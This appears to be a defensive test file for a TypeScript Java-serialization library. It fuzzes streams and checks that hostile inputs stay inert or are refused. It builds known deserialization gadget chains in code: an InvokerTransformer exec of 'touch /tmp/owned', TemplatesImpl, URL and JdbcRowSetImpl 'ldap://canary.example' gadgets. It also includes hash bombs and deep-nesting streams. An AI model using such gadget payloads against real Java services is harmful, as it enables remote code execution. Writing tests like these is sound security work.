import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { TomcatClusterError } from "../../../src/base/index.ts";
import { hashOf } from "../../../src/serialization/colliding-keys.ts";
import {
  defineClass,
  JAVA,
  JavaArray,
  JavaObject,
  type JavaValue,
  javaByteArray,
  javaObject,
  ObjectInputStream,
  ObjectOutputStream,
  peekClassName,
  StreamLimitError,
  toJava,
  toJavaScript,
  UnsupportedValueError,
} from "../../../src/serialization/index.ts";
import { javaStreams } from "../../support/java-values.ts";
import { tribesVector, tribesVectors } from "../../support/tribes-vectors.ts";

const MUTATIONS = 20_000;
const LIMITS = { maxDepth: 64, maxHandles: 2_000 };

/** mulberry32: small, seeded, good enough to choose bytes. */
function generator(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const INTERESTING = [
  0x00, 0x01, 0x7f, 0x80, 0xff, 0x70, 0x71, 0x72, 0x73, 0x74, 0x75, 0x76, 0x77, 0x78, 0x79, 0x7a, 0x7b, 0x7c, 0x7d, 0x7e,
];

function mutate(original: Buffer, random: (below: number) => number): Buffer {
  let bytes = Buffer.from(original);
  for (let change = random(4); change >= 0; change--) {
    const at = 4 + random(bytes.length - 4);
    switch (random(5)) {
      case 0:
        bytes[at] = random(256);
        break;
      case 1:
        bytes[at] = INTERESTING[random(INTERESTING.length)]!;
        break;
      case 2:
        bytes.fill(random(2) === 0 ? 0xff : 0x7f, at, Math.min(bytes.length, at + 1 + random(4)));
        break;
      case 3:
        bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(Math.min(bytes.length, at + random(20)))]);
        break;
      default:
        bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(4 + random(at), at), bytes.subarray(at)]);
    }
    if (bytes.length < 6) return bytes;
  }
  return bytes;
}

/** What is read and not changed goes out as the same node, unless it has no form in JavaScript that Java could have. */
function assertUnchanged(value: JavaValue, bytes: Buffer): void {
  try {
    assert.equal(toJava(toJavaScript(value), value), value, bytes.toString("hex"));
  } catch (error) {
    if (!(error instanceof UnsupportedValueError && error.type === "cycle")) throw error;
  }
}

function hex(text: string): string {
  return Buffer.from(text, "latin1").toString("hex");
}

/** A class descriptor without super class, in hex. */
function described(name: string, fields: string, flags = "02"): string {
  return `72${name.length.toString(16).padStart(4, "0")}${hex(name)}${"00".repeat(8)}${flags}${fields}7870`;
}

function bytesOf(value: JavaValue): Buffer {
  const stream = new ObjectOutputStream();
  stream.writeObject(value);
  return stream.toBuffer();
}

describe("hostile streams", () => {
  it(`${MUTATIONS} mutations of real streams are read, or refused with an error of ours, and never outgrow the limits`, () => {
    const random = generator(20_24);
    const vectors = tribesVectors
      .map(({ name }) => tribesVector(name).bytes)
      .filter((bytes) => bytes.length < 2000 && peekClassName(bytes) !== undefined);
    const originals = [...javaStreams.values()].filter((bytes) => bytes.length > 8 && bytes.length < 2000).concat(vectors);
    const outcomes = { read: 0, refused: 0 };
    for (let round = 0; round < MUTATIONS; round++) {
      const bytes = mutate(originals[random(originals.length)]!, random);
      try {
        peekClassName(bytes);
        const input = new ObjectInputStream(bytes, { limits: LIMITS });
        while (!input.atEnd) {
          if (!input.objectFollows) {
            input.readUnsignedByte();
            continue;
          }
          const value = input.readObject();
          const again = bytesOf(value);
          assert.deepEqual(bytesOf(new ObjectInputStream(again).readObject()), again, bytes.toString("hex"));
          assertUnchanged(value, bytes);
        }
        outcomes.read++;
      } catch (error) {
        if (!(error instanceof TomcatClusterError)) throw new Error(`Round ${round}: ${bytes.toString("hex")}`, { cause: error });
        outcomes.refused++;
      }
    }
    assert.ok(outcomes.read > 1000 && outcomes.refused > 1000, JSON.stringify(outcomes));
  });

  it("leaves payloads of exploit tools inert: a map whose key would run code on hashing is data", () => {
    const transformer = defineClass("org.apache.commons.collections.functors.InvokerTransformer", 0x87e8ff6b7b7cce38n, 2, {
      iArgs: "[Ljava/lang/Object;",
      iMethodName: "Ljava/lang/String;",
      iParamTypes: "[Ljava/lang/Class;",
    });
    const lazyMap = defineClass("org.apache.commons.collections.map.LazyMap", 0x6ee594829e791094n, 3, {
      factory: "Lorg/apache/commons/collections/Transformer;",
    });
    const entry = defineClass("org.apache.commons.collections.keyvalue.TiedMapEntry", 0x8aadd29b39c11fdbn, 2, {
      key: "Ljava/lang/Object;",
      map: "Ljava/util/Map;",
    });
    const exec = javaObject(transformer, { iMethodName: "exec", iArgs: new JavaArray(JAVA.objectArray, ["touch /tmp/owned"]) });
    const map = javaObject(lazyMap, { factory: exec }, [toJava(new Map())]);
    const payload = toJava(new Map([[javaObject(entry, { key: "foo", map }), "foo"]]));
    const bytes = bytesOf(payload);

    const read = new ObjectInputStream(bytes).readObject();
    const [[key, value]] = toJavaScript(read) as Map<unknown, unknown> as unknown as [[unknown, unknown]];
    assert.equal(value, "foo");
    assert.ok(key instanceof JavaObject);
    assert.equal(key.className, entry.name);
    assert.deepEqual(bytesOf(read), bytes);
  });

  const url = defineClass("java.net.URL", 0x962537361afce472n, 3, {
    hashCode: "I",
    port: "I",
    authority: "Ljava/lang/String;",
    file: "Ljava/lang/String;",
    host: "Ljava/lang/String;",
    protocol: "Ljava/lang/String;",
    ref: "Ljava/lang/String;",
  });
  const beanComparator = defineClass("org.apache.commons.beanutils.BeanComparator", 0xe3a188ea7322a448n, 2, {
    comparator: "Ljava/util/Comparator;",
    property: "Ljava/lang/String;",
  });
  const templates = defineClass("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 0x09574fc16eacab33n, 3, {
    _indentNumber: "I",
    _transletIndex: "I",
    _bytecodes: "[[B",
    _class: "[Ljava/lang/Class;",
    _name: "Ljava/lang/String;",
  });
  const byteArrays = defineClass("[[B", 0x4bfd19156767db37n, 2);
  const priorityQueue = defineClass("java.util.PriorityQueue", 0x94da30b4fb3f82b1n, 3, { size: "I", comparator: "Ljava/util/Comparator;" });
  const rowSet = defineClass("com.sun.rowset.JdbcRowSetImpl", 0xce26d81f4973c205n, 2, { dataSource: "Ljava/lang/String;" });
  const signed = defineClass("java.security.SignedObject", 0x09ffbd682a3cd5ffn, 2, { content: "[B", signature: "[B" });

  const code = javaObject(
    templates,
    { _name: "x", _bytecodes: new JavaArray(byteArrays, [javaByteArray(Buffer.from("cafebabe", "hex"))]) },
    [Buffer.of(0)],
  );
  const comparator = javaObject(beanComparator, { property: "outputProperties" });
  const gadgets: readonly (readonly [string, JavaObject])[] = [
    [
      "an address that a lookup of its host would hash",
      javaObject(url, { hashCode: -1, port: -1, host: "canary.example", protocol: "http" }, []),
    ],
    [
      "a queue whose comparator would load code",
      javaObject(priorityQueue, { size: 2, comparator }, [Buffer.from([0, 0, 0, 3]), code, code]),
    ],
    ["a row set that would ask a directory", javaObject(rowSet, { dataSource: "ldap://canary.example/x" })],
    ["a stream inside a stream", javaObject(signed, { content: javaByteArray(bytesOf(code)), signature: javaByteArray(Buffer.alloc(8)) })],
  ];
  for (const [name, gadget] of gadgets) {
    it(`leaves payloads of exploit tools inert: ${name} is a node, also as key of a map, and goes out as it came`, () => {
      const bytes = bytesOf(toJava(new Map([[gadget, gadget]])));
      const read = new ObjectInputStream(bytes).readObject();
      const [[key, value]] = toJavaScript(read) as Map<JavaObject, unknown> as unknown as [[JavaObject, unknown]];
      assert.ok(key instanceof JavaObject);
      assert.equal(key.className, gadget.className);
      assert.equal(key, value);
      assert.deepEqual(bytesOf(read), bytes);
    });
  }

  it("refuses a proxy wherever it stands: as object, as class, as description, and behind the handler of an annotation", () => {
    const proxy = javaStreams.get("proxy")!.subarray(4);
    const description = proxy.subarray(1, proxy.indexOf(Buffer.from("73", "hex"), 1));
    const handler = `73${described("sun.reflect.annotation.AnnotationInvocationHandler", `00014c0001${hex("m")}74000f${hex("Ljava/util/Map;")}`)}`;
    for (const payload of [proxy, Buffer.concat([Buffer.of(0x76), description]), description]) {
      for (const head of ["", handler]) {
        const stream = Buffer.concat([Buffer.from(`aced0005${head}`, "hex"), payload]);
        assert.throws(() => new ObjectInputStream(stream).readObject(), /proxy classes are refused/);
      }
    }
  });

  it("opens no list, map or set that announces more than it holds", () => {
    for (const announced of [0x7fff_ffff, -1, -0x8000_0000]) {
      const size = Buffer.alloc(12);
      for (const offset of [0, 4, 8]) size.writeInt32BE(announced, offset);
      for (const descriptor of [JAVA.arrayList, JAVA.hashMap, JAVA.hashSet]) {
        const bytes = bytesOf(javaObject(descriptor, {}, [size, "a"]));
        const read = new ObjectInputStream(bytes).readObject();
        assert.equal(toJavaScript(read), read);
        assert.deepEqual(bytesOf(read), bytes);
      }
    }
    const copies = new ObjectInputStream(javaStreams.get("ncopies")!).readObject();
    assert.equal(toJavaScript(copies), copies);
  });

  const LEVELS = 100_000;
  const nested: readonly (readonly [string, string, string])[] = [
    ["objects in fields", `73${described("A", `00014c0001${hex("f")}740003${hex("LA;")}`)}`, "7371007e0000"],
    ["objects in custom data", `73${described("A", "0000", "03")}`, "7371007e0000"],
    ["objects in the data of an Externalizable", `73${described("A", "0000", "0c")}`, "7371007e0000"],
    ["enums in place of a constant's name", `7e${described("E", "0000", "12")}`, "7e71007e0000"],
    ["classes in what describes a class", "", `76720001${hex("A")}${"00".repeat(8)}020000`],
    ["super classes", "73", `720001${hex("A")}${"00".repeat(8)}02000078`],
  ];
  for (const [name, head, level] of nested) {
    it(`refuses ${LEVELS} levels of ${name} without overflowing the stack`, () => {
      const bytes = Buffer.concat([
        Buffer.from(`aced0005${head}`, "hex"),
        Buffer.alloc((LEVELS * level.length) / 2, Buffer.from(level, "hex")),
      ]);
      assert.throws(() => new ObjectInputStream(bytes).readObject(), StreamLimitError);
    });
  }

  it("reads the hash bomb of 100 levels of sets, which a Java would never finish, in one step a set", () => {
    const bytes = javaStreams.get("hash-bomb")!;
    const read = new ObjectInputStream(bytes).readObject();
    const value = toJavaScript(read);
    assert.ok(value instanceof Set);
    assert.equal(toJava(value, read), read);
    assert.deepEqual(bytesOf(read), bytes);
  });

  const numbers: readonly (readonly [string, (index: number) => number | bigint])[] = [
    ["integers", (index) => index],
    ["doubles", (index) => index + 0.5],
    ["large integers", (index) => 2n ** 64n + BigInt(index)],
  ];
  for (const [name, numberAt] of numbers) {
    it(`leaves a map and a set inert whose ${name} collide in those of JavaScript, where thousands would take seconds`, () => {
      const keys: (number | bigint)[] = [];
      for (let index = 0; keys.length < 1000; index++) if ((hashOf(numberAt(index)) & 0x1ff) === 5) keys.push(numberAt(index));
      for (const bomb of [toJava(new Map(keys.map((key) => [key, "value"]))), toJava(new Set(keys))]) {
        const read = new ObjectInputStream(bytesOf(bomb)).readObject();
        assert.equal(toJavaScript(read), read);
        assert.deepEqual(bytesOf(read), bytesOf(bomb));
        // What an application puts into its place is written as new.
        assert.deepEqual(toJavaScript(toJava(new Map([[keys[0], 2]]), read)), new Map([[keys[0], 2]]));
      }
      const usual = new Map(Array.from({ length: 10_000 }, (_, index) => [numberAt(index * 1024), "value"]));
      assert.ok(toJavaScript(toJava(usual)) instanceof Map);
      assert.ok(toJavaScript(toJava(new Set(usual.keys()))) instanceof Set);
    });
  }

  it("reads sets nested for exponential hashing in linear time", () => {
    let value: JavaValue = toJava(new Set(["leaf"]));
    for (let level = 0; level < 100; level++) value = toJava(new Set([value, toJava(new Set([value, level]))]));
    const read = new ObjectInputStream(bytesOf(value)).readObject();
    assert.ok(toJavaScript(read) instanceof Set);
  });

  it("refuses a stream of empty strings once the limit on handles is reached", () => {
    const strings = Buffer.concat([Buffer.from("aced0005", "hex"), Buffer.alloc(300_000, Buffer.from("740000", "hex"))]);
    const input = new ObjectInputStream(strings, { limits: { maxHandles: 50_000 } });
    assert.throws(() => {
      while (!input.atEnd) input.readObject();
    }, StreamLimitError);
  });

  it("gathers a million one-byte records without keeping them apart", () => {
    const name = "A";
    const head = Buffer.from(`aced00057372000141${"00".repeat(8)}0300007870`, "hex");
    const records = Buffer.alloc(3_000_000, Buffer.from("7701aa", "hex"));
    const object = new ObjectInputStream(Buffer.concat([head, records, Buffer.from("78", "hex")])).readObject() as JavaObject;
    assert.equal(object.className, name);
    assert.equal((object.annotation()[0] as Buffer).length, 1_000_000);
  });

  it("goes on reading right when a peer has filled the memory of classes", () => {
    for (let index = 0; index < 3_000; index++) {
      const bytes = bytesOf(javaObject(defineClass(`Flood${index}`, BigInt(index), 2, { f: "I" }), { f: index }));
      const read = new ObjectInputStream(bytes).readObject() as JavaObject;
      assert.equal(read.number("f"), index);
      assert.deepEqual(bytesOf(read), bytes);
    }
  });
});
